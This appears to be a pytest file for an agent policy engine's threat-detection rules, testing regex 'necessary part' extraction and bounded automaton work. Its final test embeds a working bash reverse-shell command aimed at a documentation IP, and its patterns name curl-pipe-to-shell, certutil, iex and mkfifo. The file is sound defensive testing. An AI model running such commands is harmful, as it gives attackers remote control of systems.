"""Parts that a text must have: found wherever the whole is, and few states all together."""

from __future__ import annotations

import random
import re
import warnings
from typing import Any

import pytest
import re2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nodeagent.policy.engine import automata
from nodeagent.policy.engine.automata import Work, work_of
from nodeagent.policy.engine.content import Content
from nodeagent.policy.engine.parts import necessary_part
from nodeagent.policy.engine.threats import THREAT_RULES, ThreatSet, Where

PATTERNS = sorted({pattern for rule in THREAT_RULES for pattern in rule.patterns})
PLACES = [
    where for where in Where if any(where in one.where and one.patterns for one in THREAT_RULES)
]
ONCE_UNITS = 700_000
"""56 ms, in the life of a hook: states that were made stay."""


def any_case() -> Any:
    """Return RE2's options for parts."""
    options = re2.Options()
    options.case_sensitive = False
    return options


@pytest.mark.parametrize(
    ("pattern", "part"),
    [
        (r"curl\s[^\n]*\|\s*sh", r"curl\s"),
        (r"a[^\n]*bcd", "bcd"),
        (r"ab.*cd", "ab"),
        (r"\bab\b", r"\bab\b"),
        (r"x\s*yz", r"x(?:\s){0,}yz"),
        (r"(?:ab|cde)\w+f", r"(?:ab|cde)\w"),
        (r"(?:ab|c.*d)xyz", "xyz"),
        (r"(?:a|b*)cd", r"(?:a|(?:b){0,})cd"),
        (r"(?:a|\w*)cd", "cd"),
        (r"(?:[a-z]+,){3}kl", "kl"),
        (r"a{2,3}b", r"(?:a){2,3}b"),
        (r"[^x]{80}ab", "ab"),
        (r"(?s).*", r"(?s).*"),
        (r"a*|b", r"a*|b"),
    ],
)
def test_the_longest_part_without_a_long_repetition(pattern: str, part: str) -> None:
    """What nothing is sure of stays as it is."""
    found = necessary_part(pattern)
    assert re.sub(r"\(\?s:(.)\)", r"\1", found) == part


@pytest.mark.parametrize("pattern", PATTERNS)
@settings(max_examples=15, suppress_health_check=list(HealthCheck), database=None)
@given(data=st.data())
def test_where_a_rule_matches_its_part_does(pattern: str, data: st.DataObject) -> None:
    """Texts are made from the rule itself, with something before and behind."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        compiled = re.compile(pattern, re.ASCII)
    text = data.draw(st.from_regex(compiled))
    part = re2.compile(necessary_part(pattern), any_case())
    if re2.search(pattern, text):
        assert part.search(text)


def all_states(*patterns: str) -> Work:
    """Count the work of patterns up to `ONCE_UNITS`."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(automata, "MOST_UNITS", ONCE_UNITS)
        patch.setattr(automata, "MOST_MEMORY_BYTES", 2**40)
        patch.setattr(automata, "MOST_STEPS", 2**40)
        return work_of.__wrapped__(*patterns)


@pytest.mark.parametrize("where", PLACES)
def test_no_text_makes_the_parts_of_a_place_build_for_long(where: Where) -> None:
    """All states that there are, over every text that there is."""
    rules = [rule for rule in THREAT_RULES if where in rule.where]
    parts = [necessary_part(pattern) for rule in rules for pattern in rule.patterns]
    assert all_states(*parts).problem is None


@pytest.mark.parametrize("pattern", PATTERNS)
def test_no_text_makes_a_rule_build_for_long(pattern: str) -> None:
    """Once its part is found it is searched alone."""
    assert all_states(pattern).problem is None


def test_openings_in_every_order_are_read_in_a_time_of_bounded_work() -> None:
    """Beginnings that stay open to the end of the line, in any order, hide nothing."""
    openings = ("curl x ", "iex ", "{{ ", "certutil a ", "#set($a = ", "mkfifo a ;")
    chance = random.Random(1)
    text = " ".join(chance.choice(openings) for _ in range(10_000))
    attack = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    found = ThreatSet.compile().find(Content(texts=(f"{text}\n{attack}\n{text}",)))
    assert "reverse-shell" in {hit.rule for hit in found}
